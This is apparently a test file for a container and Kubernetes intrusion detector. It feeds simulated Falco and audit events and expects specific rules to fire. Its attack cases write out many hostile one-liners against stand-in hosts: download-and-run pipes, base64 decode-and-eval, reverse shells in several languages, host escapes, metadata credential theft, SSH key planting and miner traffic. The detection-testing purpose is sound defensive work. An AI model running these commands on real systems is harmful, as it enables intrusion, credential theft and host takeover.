/** The chain as somebody would vary it who knows the rules, and honest lines that look like it: what wakes somebody, and what must not. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { openDetector } from '../../src/detect/detector.ts';
import { stepEvents, type Step } from '../builders/sigma-samples.ts';
import { compileShelf } from '../builders/sigma-shelf.ts';

/** The mark ¦ keeps the lines inert and out of scanners' way. */
const inert = (text: string): string => text.replaceAll('¦', '');

const { rules } = compileShelf();

const toldOf = (steps: readonly Step[]): readonly string[] => {
  const detector = openDetector(rules);
  const matches = steps.flatMap(stepEvents).flatMap((event) => detector.push(event));
  return [...new Set(matches.map(({ rule }) => `${rule.level ?? ''} ${rule.name ?? ''}`))];
};

const seen = (fields: Readonly<Record<string, unknown>>): Step => ({
  falco: {
    time: '2026-03-01T10:00:00Z',
    hostname: 'node-1',
    rule: 'seen',
    output: 'seen',
    output_fields: {
      'container.id': '4d1f6c2a9b7e',
      'container.name': 'web',
      'container.image.repository': 'registry.example/app',
      'container.image.tag': '1',
      ...fields,
    },
  },
});

/** A command in a container, with the program that its first word names. */
const ran = (line: string, executable = `/usr/bin/${line.split(' ')[0] ?? ''}`): Step =>
  seen({ 'evt.type': 'execve', 'proc.exepath': executable, 'proc.cmdline': inert(line) });

const wrote = (path: string, executable: string): Step =>
  seen({ 'evt.type': 'openat', 'evt.is_open_write': true, 'proc.exepath': executable, 'fd.name': path });

const connected = (address: string, port: number, more: Readonly<Record<string, unknown>> = {}): Step =>
  seen({ 'evt.type': 'connect', 'proc.exepath': '/app', 'fd.rip': address, 'fd.rport': port, ...more });

const asked = (resource: string, subresource: string, more: Readonly<Record<string, unknown>>): Step => ({
  'kubernetes-audit': {
    kind: 'Event',
    auditID: '1',
    stage: 'ResponseComplete',
    verb: 'create',
    user: { username: 'ann' },
    objectRef: { resource, namespace: 'shop', name: 'web-1', ...(subresource === '' ? {} : { subresource }) },
    responseStatus: { code: 201 },
    requestReceivedTimestamp: '2026-03-01T10:00:00Z',
    ...more,
  },
});

const wallet = `4${'8Bfg'.repeat(23)}aa`;

/** What somebody does, as a sensor sees it, and the rule that must tell of it. */
const attacks: readonly (readonly [what: string, told: string, ...steps: readonly Step[]])[] = [
  [
    'an address with an ampersand',
    'high download-piped-to-interpreter',
    ran(`sh -c cu¦rl -s 'http://192.0.2.1/a?x=1&y=2' | b¦ash`),
  ],
  ['errors sent along', 'high download-piped-to-interpreter', ran('sh -c wg¦et -qO- http://192.0.2.1/a 2>&1 | s¦h')],
  ['through tee', 'high download-piped-to-interpreter', ran('sh -c cu¦rl http://192.0.2.1/a | tee /a | b¦ash')],
  [
    'kept, then run by name',
    'high download-piped-to-interpreter',
    ran('sh -c cu¦rl -o /a.sh 192.0.2.1/a; b¦ash /a.sh'),
  ],
  ['by busybox', 'high download-piped-to-interpreter', ran('sh -c busybox wg¦et -O- 192.0.2.1/a | busybox s¦h')],
  [
    'an interpreter that reads standard input',
    'high download-piped-to-interpreter',
    ran('sh -c cu¦rl 192.0.2.1/a | pyth¦on3 -'),
  ],
  [
    'by one line of Python',
    'high download-piped-to-interpreter',
    ran('pyth¦on3 -c import urllib.request as u; ex¦ec(u.urlopen("http://192.0.2.1/a").read())'),
  ],
  ['no scheme', 'low download-in-container', ran('cu¦rl -so /tmp/a 192.0.2.1:8080/a')],
  ['a name without a scheme', 'low download-in-container', ran('wg¦et files.evil.example/a')],
  ['by Perl', 'low download-in-container', ran('pe¦rl -MLWP::Simple -e getstore("http://192.0.2.1/a", "/tmp/a")')],
  ['by PHP', 'low download-in-container', ran('ph¦p -r copy("http://192.0.2.1/a", "/tmp/a");')],
  [
    'by the shell alone',
    'low download-in-container',
    ran('bash -c exec 3<>/dev/tc¦p/192.0.2.1/80; echo GET /a >&3; cat <&3'),
  ],
  ['by netcat into a file', 'low download-in-container', ran('sh -c n¦c -w 3 192.0.2.1 8000 > /tmp/a')],
  ['decoded in a substitution', 'high decode-and-run', ran('bash -c eval "$(echo aWQ= | base¦64 -d)"')],
  ['decoded and unpacked', 'high decode-and-run', ran('sh -c echo H4sI | base¦64 -di | gunzip | b¦ash')],
  ['decoded by OpenSSL', 'high decode-and-run', ran('sh -c echo aWQ= | openssl base¦64 -d | s¦h')],
  [
    'decoded by Python for the system',
    'high decode-and-run',
    ran('pyth¦on -c import os,base64;os.sys¦tem(base64.b64de¦code("aWQ="))'),
  ],
  ['decoded by Perl', 'high decode-and-run', ran('pe¦rl -MMIME::Base64 -e ev¦al decode_base¦64("aWQ=")')],
  ['decoded by PHP', 'high decode-and-run', ran('ph¦p -r ev¦al(base64_de¦code("aWQ="));')],
  ['decoded by Node', 'high decode-and-run', ran('node -e ev¦al(Buffer.from("aWQ=", "base64").toString())')],
  ['the disk of the host', 'high enters-host', ran('mount /dev/sda1 /mnt')],
  ['the disk of the host, without mounting it', 'high enters-host', ran('debugfs -w /dev/nvme0n1p1')],
  ['what the kernel runs for a crash', 'high enters-host', ran('sh -c echo "|/a" > /proc/sys/kernel/core_pattern')],
  ['blanks by a variable', 'high download-piped-to-interpreter', ran('sh -c cu¦rl${IFS}192.0.2.1/a|s¦h')],
  ['a library before all others', 'high preload-set-by-command', ran('sh -c LD_PRE¦LOAD=/dev/shm/a.so nginx')],
  ['a schedule from a file', 'medium crontab-set', ran('cron¦tab /tmp/a')],
  [
    'a shell through a pipe with a name',
    'high reverse-shell',
    ran('sh -c mkf¦ifo /tmp/f; cat /tmp/f | s¦h -i 2>&1 | n¦c 192.0.2.1 443 > /tmp/f'),
  ],
  [
    'a shell through TLS',
    'high reverse-shell',
    ran('sh -c mkf¦ifo /tmp/s; s¦h -i < /tmp/s 2>&1 | openssl s_cl¦ient -quiet -connect 192.0.2.1:443 > /tmp/s'),
  ],
  [
    'a shell by Perl',
    'high reverse-shell',
    ran(
      'pe¦rl -e use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, $a); open(STDIN, ">&S"); ex¦ec("/bin/sh -i")',
    ),
  ],
  [
    'a shell by PHP',
    'high reverse-shell',
    ran('ph¦p -r $s=fsock¦open("192.0.2.1", 443); ex¦ec("/bin/sh -i <&3 >&3 2>&3");'),
  ],
  [
    'a shell by Ruby',
    'high reverse-shell',
    ran('rub¦y -rsocket -e f=TCPSo¦cket.open("192.0.2.1",443).to_i; ex¦ec sprintf("/bin/sh -i <&%d", f)'),
  ],
  [
    'a shell by Python without a terminal',
    'high reverse-shell',
    ran('pyth¦on3 -c import socket,subprocess; s=socket.socket(); subpro¦cess.call(["/bin/sh"], stdin=s)'),
  ],
  [
    'a shell on a descriptor',
    'high reverse-shell',
    ran('bash -c 0<&196;exec 196<>/dev/tc¦p/192.0.2.1/443; s¦h <&196 >&196 2>&196'),
  ],
  [
    'line by line',
    'high reverse-shell',
    ran('bash -c exec 5<>/dev/tc¦p/192.0.2.1/443; cat <&5 | while re¦ad l; do $l 2>&5 >&5; done'),
  ],
  [
    'a renamed miner, paid by its wallet',
    'high wallet-in-command-line',
    ran(`nginx -o 192.0.2.1:443 -u ${wallet} --tls`, '/usr/sbin/nginx'),
  ],
  ['a renamed miner in shared memory', 'medium program-in-temporary-folder', ran('kworker', '/dev/shm/kworker')],
  [
    'a pool by its name in TLS, on 443',
    'high pool-name-asked',
    connected('2001:db8::7', 443, { 'fd.sip.name': 'pool.supportx¦mr.com'.replace('¦', '') }),
  ],
  ['a pool’s port, version 6', 'low pool-port-from-container', connected('2001:db8::7', 3333)],
  ['another machine’s engine', 'high remote-engine-driven', ran('docker -H tcp://192.0.2.1:2375 run -v /:/mnt alpine')],
  [
    'another machine’s engine, by its variable',
    'high remote-engine-driven',
    ran('sh -c DOCKER_HOST=tcp://192.0.2.1:2375 docker ps'),
  ],
  [
    'another machine’s engine, by hand',
    'high remote-engine-driven',
    ran('cu¦rl -XPOST http://192.0.2.1:2375/v1.41/containers/create -d @a'),
  ],
  [
    'the engine’s socket, by a program of its own',
    'low engine-socket-opened',
    seen({ 'evt.type': 'connect', 'proc.exepath': '/app', 'fd.name': '/var/run/docker.sock' }),
  ],
  ['the host by its first process', 'high enters-host', ran('ns¦enter --mount=/proc/1/ns/mnt -- /bin/b¦ash')],
  ['the host by the root of its first process', 'high enters-host', ran('chr¦oot /proc/1/root sh')],
  [
    'credentials by version 6',
    'medium instance-credentials-asked',
    ran('cu¦rl http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/'),
  ],
  ['credentials of a pod on EKS', 'medium instance-credentials-asked', ran('cu¦rl 169.254.170.23/v1/credentials')],
  [
    'a key planted by a shell',
    'high planted-by-command',
    ran('sh -c echo ssh-ed25519 AAAA >> /host/root/.ssh/authorized_k¦eys'),
  ],
  ['a unit planted by a shell', 'high planted-by-command', ran('cp /a.service /host/etc/systemd/system/a.service')],
  [
    'a pod planted in k3s',
    'high static-pod-written',
    wrote('/host/var/lib/rancher/k3s/server/manifests/a.yaml', '/bin/cp'),
  ],
  [
    'a pod that a node runs by itself',
    'medium static-pod-appeared',
    asked('pods', '', {
      user: { username: 'system:node:node-1' },
      requestObject: {
        metadata: { name: 'a-node-1', namespace: 'shop', annotations: { 'kubernetes.io/config.mirror': '1' } },
        spec: { containers: [{ name: 'a', image: 'registry.example/a:1' }] },
      },
    }),
  ],
  [
    'a container put into a running pod',
    'low debug-container-added',
    asked('pods', 'ephemeralcontainers', {
      verb: 'patch',
      responseStatus: { code: 200 },
      requestObject: { spec: { ephemeralContainers: [{ name: 'debugger', image: 'evil.example/a:1' }] } },
    }),
  ],
  [
    'with every right',
    'medium privileged-container',
    asked('pods', 'ephemeralcontainers', {
      verb: 'patch',
      responseStatus: { code: 200 },
      requestObject: {
        spec: { ephemeralContainers: [{ name: 'd', image: 'a:1', securityContext: { privileged: true } }] },
      },
    }),
  ],
  [
    'a command through the kubelet',
    'high kubelet-asked-to-run',
    asked('nodes', 'proxy', {
      requestURI: '/api/v1/nodes/node-1/proxy/run/shop/web-1/web?cmd=id',
      responseStatus: { code: 200 },
    }),
  ],
  [
    'every night',
    'high created-with-hostile-command',
    asked('cronjobs', '', {
      requestObject: {
        spec: {
          jobTemplate: {
            spec: {
              template: {
                spec: {
                  containers: [
                    { name: 'a', image: 'alpine', command: ['sh', '-c', inert('wg¦et -O- http://192.0.2.1/a | s¦h')] },
                  ],
                },
              },
            },
          },
        },
      },
    }),
  ],
  [
    'the root of the host, written otherwise',
    'high host-root-mounted',
    asked('pods', '', {
      requestObject: {
        spec: {
          volumes: [{ name: 'v', hostPath: { path: '//./' } }],
          containers: [{ name: 'a', image: 'alpine', volumeMounts: [{ name: 'v', mountPath: '/a' }] }],
        },
      },
    }),
  ],
];

for (const [what, told, ...steps] of attacks)
  test(`told: ${what}`, () => {
    assert.ok(toldOf(steps).includes(told), `${told}, not ${toldOf(steps).join(', ') || 'nothing'}`);
  });

/** Of a busy day of pipelines and operators: nothing above `low`. */
const honest: readonly (readonly [what: string, ...steps: readonly Step[]])[] = [
  [
    'an answer read by Python',
    ran(`sh -c cu¦rl -s https://api.example/v1 | python3 -c 'import json,sys;print(json.load(sys.stdin)["a"])'`),
  ],
  ['an answer put in form', ran('sh -c cu¦rl -s https://api.example/v1 | python3 -m json.tool')],
  ['an answer read by Perl and jq', ran('sh -c cu¦rl -s https://api.example/v1 | jq -r .a | perl -ne print')],
  [
    'an installer that everybody knows',
    ran(`sh -c cu¦rl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y`),
  ],
  ['an installer for packages', ran('bash -c cu¦rl -fsSL https://deb.nodesource.com/setup_22.x | bash -')],
  ['waiting for a port', ran('timeout 1 bash -c </dev/tc¦p/db/5432')],
  ['waiting for a port otherwise', ran('bash -c until echo > /dev/tc¦p/db/5432; do sleep 1; done')],
  [
    'health without a client',
    ran(`bash -c exec 3<>/dev/tc¦p/127.0.0.1/8080; echo -e 'GET /health HTTP/1.0\\n' >&3; cat <&3 | grep -q 200`),
  ],
  ['a secret read', ran('sh -c echo $CONFIG | base64 -d > /etc/app.yaml')],
  ['a secret read by Python', ran('sh -c base64 -d /secret | python3 -c "import json,sys;json.load(sys.stdin)"')],
  ['a login to a registry', ran('sh -c cat /secret/config > /root/.docker/config.json')],
  ['a login that is copied', ran('cp /config/config.json /kaniko/.docker/config.json')],
  ['its own token', ran('cat /var/run/secrets/kubernetes.io/serviceaccount/token')],
  [
    'images built in a pipeline’s container',
    ran('docker build -t registry.example/app:2 .'),
    ran('docker push registry.example/app:2'),
  ],
  ['an engine beside it', ran('docker -H tcp://docker:2376 build -t registry.example/app:2 .')],
  [
    'a release by helm',
    ran('helm upgrade --install app ./chart -n shop --wait'),
    ran('kubectl rollout status deployment/app'),
  ],
  [
    'a package with its schedule and unit',
    wrote('/etc/cron.d/e2scrub_all', '/usr/bin/dpkg'),
    wrote('/usr/lib/systemd/system/nginx.service', '/usr/bin/dpkg'),
  ],
  ['tests that were built', ran('/tmp/go-build123/b001/app.test -test.v', '/tmp/go-build1234567/b001/app.test')],
  ['a monitor asks every kubelet', ...Array.from({ length: 40 }, (_, node) => connected(`10.0.1.${node}`, 10_250))],
  ['a node is told to start again', ran('ns¦enter -m/proc/1/ns/mnt -- test -f /var/run/reboot-required')],
  ['a copy through netcat', ran('sh -c tar c /data | n¦c backup 9000')],
  [
    'a volume for a pod',
    ran('mount -t ext4 -o defaults /dev/nvme1n1 /var/lib/kubelet/plugins/kubernetes.io/csi/a/globalmount'),
  ],
  ['another allocator', ran('sh -c LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server')],
  ['its own schedule', ran('crontab /etc/crontabs/app')],
  ['a backup', ran('restic backup /data --repo s3:https://s3.example/backup'), ran('pg_dump -h db -U app app')],
  [
    'a proxy asks its engine',
    seen({ 'evt.type': 'connect', 'proc.exepath': '/usr/local/bin/traefik', 'fd.name': '/var/run/docker.sock' }),
  ],
  [
    'an address of version 4 in version 6',
    seen({ 'evt.type': 'connect', 'proc.exepath': '/bin/bash', 'fd.rip': '::ffff:10.0.3.4', 'fd.rport': 5432 }),
  ],
  [
    'statistics through the kubelet',
    asked('nodes', 'proxy', {
      verb: 'get',
      requestURI: '/api/v1/nodes/node-1/proxy/stats/summary',
      responseStatus: { code: 200 },
    }),
  ],
  [
    'the control plane’s own pod',
    asked('pods', '', {
      user: { username: 'system:node:node-1' },
      objectRef: { resource: 'pods', namespace: 'kube-system', name: 'etcd-node-1' },
      requestObject: {
        metadata: {
          name: 'etcd-node-1',
          namespace: 'kube-system',
          annotations: { 'kubernetes.io/config.mirror': '1' },
        },
        spec: { containers: [{ name: 'etcd', image: 'registry.k8s.io/etcd:3.5' }] },
      },
    }),
  ],
];

for (const [what, ...steps] of honest)
  test(`quiet: ${what}`, () => {
    const loud = toldOf(steps).filter((told) => !/^(?:low|informational) /.test(told));
    assert.deepEqual(loud, []);
  });
